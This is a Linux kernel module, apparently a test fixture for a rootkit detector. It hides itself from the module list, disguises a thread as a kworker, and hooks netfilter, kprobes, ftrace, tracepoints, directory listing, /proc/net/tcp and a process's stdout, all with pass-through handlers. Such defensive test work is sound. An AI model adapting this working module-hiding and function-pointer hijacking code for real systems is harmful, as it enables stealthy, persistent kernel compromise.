// SPDX-License-Identifier: GPL-2.0
/*
 * starlsm - what a rootkit does to stay: it takes itself off the list of modules,
 * and has itself called by something of the kernel's
 *
 * insmod hidden_hook.ko [how=netfilter|notifier|kprobe|ftrace|tracepoint|thread|root|
 *	connections] [folder=/tmp] [show=1]
 * insmod hidden_hook.ko how=file pid=PID
 * With show it stays in the list; and when 1 is written to that parameter's file it is
 * there again, so that rmmod takes the hook away.
 */
#include <linux/dcache.h>
#include <linux/fdtable.h>
#include <linux/fs.h>
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/module.h>
#include <linux/namei.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/reboot.h>
#include <linux/sched/task.h>
#include <linux/seq_file.h>
#include <linux/tracepoint.h>
#include <net/net_namespace.h>

static char *how = "";
module_param(how, charp, 0);
MODULE_PARM_DESC(how, "who is to call it");

static int pid;
module_param(pid, int, 0);
MODULE_PARM_DESC(pid, "whose first file is to call it");

static struct list_head *before;	/* where it was in the list; NULL: it is there */

static bool show;

static int set_show(const char *value, const struct kernel_param *kp)
{
	int rc = param_set_bool(value, kp);

	if (!rc && show && before) {
		list_add_rcu(&THIS_MODULE->list, before);
		before = NULL;
	}
	return rc;
}

static const struct kernel_param_ops show_ops = { .set = set_show, .get = param_get_bool };
module_param_cb(show, &show_ops, &show, 0600);
MODULE_PARM_DESC(show, "do not hide; or no longer");

static struct task_struct *thread;

static unsigned int on_packet(void *priv, struct sk_buff *skb, const struct nf_hook_state *state)
{
	return NF_ACCEPT;
}

static struct nf_hook_ops nf_ops = {
	.hook = on_packet,
	.pf = NFPROTO_IPV4,
	.hooknum = NF_INET_LOCAL_OUT,
	.priority = NF_IP_PRI_LAST,
};

static int on_reboot(struct notifier_block *nb, unsigned long action, void *data)
{
	return NOTIFY_DONE;
}

static struct notifier_block reboot_nb = { .notifier_call = on_reboot };

static int on_probe(struct kprobe *p, struct pt_regs *regs)
{
	return 0;
}

/* behind the place for ftrace, so that it is a breakpoint */
static struct kprobe probe = { .symbol_name = "__x64_sys_sethostname", .offset = 5,
			       .pre_handler = on_probe };

static void on_call(unsigned long ip, unsigned long parent, struct ftrace_ops *op,
		    struct ftrace_regs *regs)
{
}

static struct ftrace_ops ftrace_ops = { .func = on_call };

static struct tracepoint *forks;

static void on_fork(void *data, struct task_struct *parent, struct task_struct *child)
{
}

static void find_forks(struct tracepoint *tp, void *data)
{
	if (!strcmp(tp->name, "sched_process_fork"))
		forks = tp;
}

static int hook_tracepoint(void)
{
	for_each_kernel_tracepoint(find_forks, NULL);
	return forks ? tracepoint_probe_register(forks, on_fork, NULL) : -ENOENT;
}

static int run(void *data)
{
	while (!kthread_should_stop())
		schedule_timeout_interruptible(HZ);
	return 0;
}

/* What a rootkit that hides files does: what lists a folder is its own, and filters. */
static struct file_operations fops;
static int (*list)(struct file *file, struct dir_context *ctx);
static ssize_t (*write)(struct file *file, const char __user *buf, size_t len, loff_t *pos);

static int on_list(struct file *file, struct dir_context *ctx)
{
	return list(file, ctx);
}

static ssize_t on_write(struct file *file, const char __user *buf, size_t len, loff_t *pos)
{
	return write(file, buf, len, pos);
}

static char *folder = "/tmp";
module_param(folder, charp, 0);
MODULE_PARM_DESC(folder, "the root of what is mounted there is to call it");

static const struct file_operations *had;
static struct path root;
static struct file *opened;

static int hook_root(void)
{
	int rc = kern_path(folder, LOOKUP_FOLLOW, &root);
	struct inode *inode;

	if (rc)
		return rc;
	inode = d_inode(root.dentry->d_sb->s_root);
	had = inode->i_fop;
	fops = *had;
	fops.owner = THIS_MODULE;
	list = fops.iterate_shared;
	fops.iterate_shared = on_list;
	inode->i_fop = &fops;
	return 0;
}

/*
 * What a rootkit that hides connections does: what lists them is its own. The beginning
 * of struct proc_dir_entry, and the end of struct proc_inode up to its inode, of Linux 6.12
 */
struct entry {
	atomic_t in_use;
	refcount_t refcnt;
	struct list_head openers;
	spinlock_t lock;
	void *completion, *iops, *ops, *dops;
	const struct seq_operations *seq_ops;
};

struct before_inode {
	struct entry *entry;
	void *sysctl, *sysctl_entry;
	struct hlist_node siblings;
	void *ns_ops;
};

static struct seq_operations seq_ops;
static struct entry *entry;
static const struct seq_operations *had_seq;
static struct file *connections;

static int show_connection(struct seq_file *seq, void *v)
{
	return had_seq->show(seq, v);
}

static int hook_connections(void)
{
	connections = filp_open("/proc/net/tcp", O_RDONLY, 0);
	if (IS_ERR(connections))
		return PTR_ERR(connections);
	entry = ((struct before_inode *)file_inode(connections) - 1)->entry;
	if (entry->seq_ops != ((struct seq_file *)connections->private_data)->op) {
		fput(connections);
		return -ENXIO;
	}
	had_seq = entry->seq_ops;
	seq_ops = *had_seq;
	seq_ops.show = show_connection;
	entry->seq_ops = &seq_ops;
	return 0;
}

static void unhook_connections(void)
{
	entry->seq_ops = had_seq;
	fput(connections);
}

/* Standard output of a process */
static int hook_file(void)
{
	struct task_struct *task = get_pid_task(find_vpid(pid), PIDTYPE_TGID);

	if (!task)
		return -ESRCH;
	rcu_read_lock();
	opened = files_lookup_fd_raw(task->files, 1);
	if (opened)
		get_file(opened);
	rcu_read_unlock();
	put_task_struct(task);
	if (!opened)
		return -EBADF;
	had = opened->f_op;
	fops = *had;
	write = fops.write;
	fops.write = on_write;
	opened->f_op = &fops;
	return 0;
}

static int hook(void)
{
	if (!strcmp(how, "netfilter"))
		return nf_register_net_hook(&init_net, &nf_ops);
	if (!strcmp(how, "notifier"))
		return register_reboot_notifier(&reboot_nb);
	if (!strcmp(how, "kprobe"))
		return register_kprobe(&probe);
	if (!strcmp(how, "ftrace")) {
		ftrace_set_filter(&ftrace_ops, "__x64_sys_sethostname",
				  strlen("__x64_sys_sethostname"), 1);
		return register_ftrace_function(&ftrace_ops);
	}
	if (!strcmp(how, "tracepoint"))
		return hook_tracepoint();
	if (!strcmp(how, "connections"))
		return hook_connections();
	if (!strcmp(how, "thread")) {
		thread = kthread_run(run, NULL, "kworker/u9:0");
		return PTR_ERR_OR_ZERO(thread);
	}
	if (!strcmp(how, "root"))
		return hook_root();
	if (!strcmp(how, "file"))
		return hook_file();
	return *how ? -EINVAL : 0;
}

static void unhook(void)
{
	if (!strcmp(how, "netfilter"))
		nf_unregister_net_hook(&init_net, &nf_ops);
	if (!strcmp(how, "notifier"))
		unregister_reboot_notifier(&reboot_nb);
	if (!strcmp(how, "kprobe"))
		unregister_kprobe(&probe);
	if (!strcmp(how, "ftrace"))
		unregister_ftrace_function(&ftrace_ops);
	if (forks) {
		tracepoint_probe_unregister(forks, on_fork, NULL);
		tracepoint_synchronize_unregister();
	}
	if (had_seq)
		unhook_connections();
	if (thread)
		kthread_stop(thread);
	if (root.dentry) {
		d_inode(root.dentry->d_sb->s_root)->i_fop = had;
		path_put(&root);
	}
	if (opened) {
		opened->f_op = had;
		fput(opened);
	}
}

static int __init hidden_hook_init(void)
{
	int rc = hook();

	if (rc || show)
		return rc;
	before = THIS_MODULE->list.prev;
	list_del_rcu(&THIS_MODULE->list);
	return 0;
}

static void __exit hidden_hook_exit(void)
{
	unhook();
}

module_init(hidden_hook_init);
module_exit(hidden_hook_exit);
MODULE_DESCRIPTION("Hooks the kernel, and hides");
MODULE_LICENSE("GPL");
